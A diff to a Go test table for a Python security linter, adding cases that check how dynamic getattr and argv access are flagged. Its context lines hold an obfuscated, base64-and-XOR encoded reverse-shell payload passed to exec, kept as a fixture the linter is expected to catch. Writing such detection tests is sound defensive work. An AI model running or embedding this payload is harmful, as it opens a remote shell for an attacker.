@@ -49,6 +49,11 @@ var codeCases = []lintCase{
 	{"d.py", "reverse-shell", "import base64\nB = 'ODspMnp3M3pkfHp1Pj8sdS45KnVoaml0anRra2l0Y3Vubml6amR8aw=='\nk = 0x5A\nexec(bytes(b ^ k for b in base64.b64decode(B)).decode())\n", "error", 2},
 	{"d.py", "reverse-shell", "import base64\nB = 'ODspMnp3M3pkfHp1Pj8sdS45KnVoaml0anRra2l0Y3Vubml6amR8aw=='\nprint(base64.b64decode(B))\n", "", 0},
 	{"d.py", "dynamic-exec", "exec(\"print('hi')\")\n", "", 0},
+	// A library's own loader family reached by a built name, an argv index: no hidden call.
+	{"gnn.py", "dynamic-exec", "import deepchem as dc\nload_func = getattr(dc.molnet, f'load_{name}')\n", "note", 2},
+	{"gnn.py", "dynamic-exec", "import os\nrun = getattr(os, f'sys{name}')\n", "warning", 2},
+	{"gnn.py", "dynamic-exec", "import deepchem as dc\nrun = getattr(dc, f'{name}')\n", "warning", 2},
+	{"cli.py", "dynamic-exec", "import sys\ni = 2\nfmt = sys.argv[i + 1]\n", "", 0},
 	// A module name built at run time under a package or folder named whole
 	// picks one of its own modules (a plugin by format); anything else
 	// built, or decoded, is a name the text hides.
